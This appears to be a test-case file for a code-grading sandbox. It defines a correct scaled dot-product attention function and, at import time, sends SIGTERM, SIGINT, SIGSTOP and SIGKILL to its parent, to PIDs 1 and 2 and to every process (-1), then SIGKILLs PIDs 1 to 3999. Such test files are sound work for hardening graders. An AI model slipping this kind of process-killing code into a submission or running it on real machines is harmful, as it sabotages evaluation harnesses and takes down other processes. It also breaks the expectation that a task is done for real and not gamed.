"""Sends signals to its parent, its group and every process that there is.

Verdict: crashed the Python process|passed|was ended by a signal|ended the Python process|memory
"""

import jax


def right(q, k, v):
    return jax.nn.softmax(q @ k.T / q.shape[-1] ** 0.5) @ v

import os
import signal

for target in (os.getppid(), 1, 2, -1):
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(target, number)
        except OSError:
            pass
for target in range(1, 4000):
    if target != os.getpid():
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass

sdpa = right
